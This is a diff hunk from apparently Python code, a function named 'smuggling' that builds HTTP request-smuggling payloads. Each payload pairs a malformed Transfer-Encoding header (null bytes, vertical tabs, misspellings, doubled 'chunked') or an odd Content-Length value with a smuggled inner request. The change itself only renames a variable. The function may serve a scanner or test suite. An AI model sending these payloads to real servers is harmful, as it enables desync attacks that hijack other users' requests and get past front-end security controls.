@@ -108,10 +108,10 @@ def smuggling(target: str, fields: Iterable[str], inner: bytes) -> dict[str, byt
     for coding in ("xchunked", "identity", "gzip, chunked", "chunked, identity", "chunked, chunked",
                    "chunked;q=1", "\x0bchunked", "chunked\x0b", "chunked\x00", '"chunked"',
                    "chunke", ""):  # fmt: skip
-        name = b"Transfer-Encoding: " + coding.encode()
-        rows[f"TE {coding!r}"] = name + b"\r\nContent-Length: %d" % both + end + last + inner
+        coded = b"Transfer-Encoding: " + coding.encode()
+        rows[f"TE {coding!r}"] = coded + b"\r\nContent-Length: %d" % both + end + last + inner
         if coding != "gzip, chunked":  # whose last chunk is a right end
-            rows[f"TE {coding!r} alone"] = name + end + last + inner
+            rows[f"TE {coding!r} alone"] = coded + end + last + inner
     for number in ("+0", "-1", "0x0", "0 0", "0_0", "", "0.0", "1e1", "0;", "\u0660", "9" * 30):
         rows[f"CL {number!r}"] = f"Content-Length: {number}".encode() + end + inner
     for name, field in {
